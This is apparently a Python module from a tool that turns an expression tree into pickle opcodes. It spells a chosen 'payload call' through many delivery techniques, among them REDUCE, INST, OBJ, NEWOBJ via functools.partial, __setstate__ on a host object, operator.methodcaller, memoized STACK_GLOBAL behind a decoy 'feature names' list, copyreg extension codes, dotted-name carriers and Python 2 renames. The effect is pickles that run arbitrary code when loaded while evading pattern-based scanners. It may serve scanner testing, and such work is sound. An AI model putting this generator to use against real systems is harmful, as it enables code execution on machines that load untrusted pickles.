"""Turn an expression tree into opcodes, spelling the payload call with a
delivery technique (see deliveries.py)."""

from . import deliveries
from .expr import Call, Global, payload_call
from .opcodes import P

SETSTATE_HOSTS = (("types", "SimpleNamespace"), ("argparse", "Namespace"))


class Emitter:
    def __init__(self, writer, delivery, rng):
        if delivery not in deliveries.DELIVERIES:
            raise ValueError("unknown delivery %r" % delivery)
        if writer.protocol not in deliveries.protocols_for(delivery):
            raise ValueError("%s cannot be written at protocol %d"
                             % (delivery, writer.protocol))
        if deliveries.needs_memo(delivery) and not writer.memo:
            raise ValueError("%s needs the memo" % delivery)
        self.w = writer
        self.delivery = delivery
        self.rng = rng
        self.target = None
        self.memo_names = None
        self.ext_code = None

    # ---- entry point --------------------------------------------------------

    def emit(self, tree):
        """Write the opcodes that leave the value of `tree` on the stack."""
        self.target = payload_call(tree)
        if self.w.protocol not in deliveries.protocols_for(self.delivery,
                                                          self.target):
            raise ValueError("%s cannot spell %s at protocol %d" % (
                self.delivery, self.target.fn.dotted, self.w.protocol))
        # Whether the call's value is used elsewhere is the caller's to check.
        if not deliveries.supports(self.delivery, self.target):
            raise ValueError("%s cannot spell %s" % (self.delivery,
                                                    self.target.fn.dotted))
        self.preamble(self.target.fn)
        self.value(tree)

    def preamble(self, fn):
        w = self.w
        if self.delivery == "memo_stack_global":
            # Decoy "feature names" list; the two strings the payload needs
            # are memoized on the way and the list is dropped.
            decoys = ["feature_%d" % self.rng.randrange(100) for _ in range(3)]
            w.op(P.EMPTY_LIST)
            w.mark()
            w.str_(decoys[0], memoize=False)
            w.str_(fn.module, memoize=False)
            module_index = w.put(force=True)
            w.str_(decoys[1], memoize=False)
            w.str_(fn.qualname, memoize=False)
            name_index = w.put(force=True)
            w.str_(decoys[2], memoize=False)
            w.op(P.APPENDS)
            w.op(P.POP)
            self.memo_names = (module_index, name_index)
        elif self.delivery == "ext_code":
            self.ext_code = self.rng.choice(
                (self.rng.randrange(1, 256), self.rng.randrange(256, 65536),
                 self.rng.randrange(65536, 2**31 - 1)))
            self.reduce(Global("copyreg", "add_extension"),
                        (fn.module, fn.qualname, self.ext_code))
            w.op(P.POP)

    # ---- values -------------------------------------------------------------

    def value(self, node):
        w = self.w
        if node is None:
            w.none()
        elif node is True or node is False:
            w.bool_(node)
        elif isinstance(node, int):
            w.int_(node)
        elif isinstance(node, float):
            w.float_(node)
        elif isinstance(node, str):
            w.str_(node)
        elif isinstance(node, bytes):
            if w.protocol >= 3:
                w.bytes_(node)
            else:
                self.reduce(Global("_codecs", "encode"),
                            (node.decode("latin1"), "latin1"))
        elif isinstance(node, tuple):
            self.tuple_(node)
        elif isinstance(node, list):
            self.list_(node)
        elif isinstance(node, dict):
            self.dict_(node)
        elif isinstance(node, Global):
            self.global_ref(node)
        elif isinstance(node, Call):
            if node is self.target:
                self.payload(node)
            else:
                self.reduce(node.fn, node.args)
        else:
            raise TypeError("cannot emit %r" % (node,))

    def tuple_(self, items):
        w = self.w
        if not items:
            w.empty_tuple()
            return
        short = w.protocol >= 2 and len(items) <= 3
        if not short:
            w.mark()
        for item in items:
            self.value(item)
        w.close_tuple(len(items))
        w.put()

    def list_(self, items):
        w = self.w
        if w.protocol == 0:
            w.mark()
            w.op(P.LIST)
            w.put()
            for item in items:
                self.value(item)
                w.op(P.APPEND)
            return
        w.op(P.EMPTY_LIST)
        w.put()
        if items:
            w.mark()
            for item in items:
                self.value(item)
            w.op(P.APPENDS)

    def dict_(self, items):
        w = self.w
        if w.protocol == 0:
            w.mark()
            w.op(P.DICT)
            w.put()
            for key, value in items.items():
                self.value(key)
                self.value(value)
                w.op(P.SETITEM)
            return
        w.op(P.EMPTY_DICT)
        w.put()
        if items:
            w.mark()
            for key, value in items.items():
                self.value(key)
                self.value(value)
            w.op(P.SETITEMS)

    def global_ref(self, g):
        """Push a module attribute; below protocol 4 a dotted qualname is
        reached with builtins.getattr, one attribute at a time."""
        if "." in g.qualname and self.w.protocol < 4:
            head, _, last = g.qualname.rpartition(".")
            self.reduce(Global("builtins", "getattr"),
                        (Global(g.module, head), last))
        else:
            self.w.global_(g.module, g.qualname)

    def reduce(self, fn, args):
        self.value(fn)
        self.tuple_(tuple(args))
        self.w.op(P.REDUCE)
        self.w.put()

    # ---- the payload call ---------------------------------------------------

    def payload(self, node):
        w = self.w
        fn, args = node.fn, node.args
        d = self.delivery
        if d == "reduce":
            self.reduce(fn, args)
        elif d == "inst":
            w.mark()
            for arg in args:
                self.value(arg)
            w.op(P.INST + fn.module.encode() + b"\n"
                 + fn.qualname.encode() + b"\n")
            w.put()
        elif d == "obj":
            w.mark()
            self.value(fn)
            for arg in args:
                self.value(arg)
            w.op(P.OBJ)
            w.put()
        elif d in ("newobj", "newobj_ex"):
            self.value(Global("functools", "partial"))
            self.tuple_((fn,) + tuple(args))
            if d == "newobj_ex":
                self.dict_({})
                w.op(P.NEWOBJ_EX)
            else:
                w.op(P.NEWOBJ)
            w.put()
            w.empty_tuple()
            w.op(P.REDUCE)
            w.put()
        elif d == "build_setstate":
            if not args:
                raise ValueError("build_setstate needs an argument")
            host = Global(*self.rng.choice(SETSTATE_HOSTS))
            self.reduce(host, ())
            if len(args) == 1:
                setstate = fn
            else:
                setstate = Call(Global("functools", "partial"),
                                (fn,) + tuple(args[:-1]))
            self.dict_({"__setstate__": setstate})
            w.op(P.BUILD)
            self.value(args[-1])
            w.op(P.BUILD)
        elif d == "partial":
            self.reduce(Global("functools", "partial"), (fn,) + tuple(args))
            w.empty_tuple()
            w.op(P.REDUCE)
            w.put()
        elif d == "operator_call":
            self.reduce(Global("operator", "call"), (fn,) + tuple(args))
        elif d == "methodcaller":
            if "." in fn.qualname:
                # Class.method(self, ...) is Class's attribute called with
                # self first; the same goes for an attribute of any object.
                head, _, name = fn.qualname.rpartition(".")
                owner, rest = Global(fn.module, head), tuple(args)
            else:
                owner = Call(Global("importlib", "import_module"),
                             (fn.module,))
                rest, name = tuple(args), fn.qualname
            caller = Call(Global("operator", "methodcaller"), (name,) + rest)
            self.reduce(caller, (owner,))
        elif d == "memo_stack_global":
            module_index, name_index = self.memo_names
            w.get(module_index)
            w.get(name_index)
            w.op(P.STACK_GLOBAL)
            w.put()
            self.tuple_(tuple(args))
            w.op(P.REDUCE)
            w.put()
        elif d == "ext_code":
            w.ext(self.ext_code)
            self.tuple_(tuple(args))
            w.op(P.REDUCE)
            w.put()
        elif d == "dotted_name":
            w.global_(*self.dotted_spelling(fn))
            self.tuple_(tuple(args))
            w.op(P.REDUCE)
            w.put()
        elif d == "py2_rename":
            self.reduce(self.py2_spelling(fn), args)
        else:
            raise AssertionError(d)

    def dotted_spelling(self, fn):
        if "." in fn.qualname:
            return fn.module, fn.qualname
        carriers = deliveries.CARRIERS.get(fn.module)
        if carriers and (fn.dotted in deliveries.CLASS_TARGETS
                         or self.rng.random() < 0.75):
            carrier, attribute = self.rng.choice(carriers)
            return carrier, "%s.%s" % (attribute, fn.qualname)
        return fn.module, fn.qualname + ".__call__"

    def py2_spelling(self, fn):
        old = deliveries.PY2_NAMES.get(fn.module)
        if old is not None:
            return Global(old, fn.qualname)
        head, _, rest = fn.qualname.partition(".")
        module = Call(Global("__builtin__", "__import__"),
                      (fn.module, None, None, ("_",)))
        node = Call(Global("__builtin__", "getattr"), (module, head))
        for part in rest.split(".") if rest else ():
            node = Call(Global("__builtin__", "getattr"), (node, part))
        return node
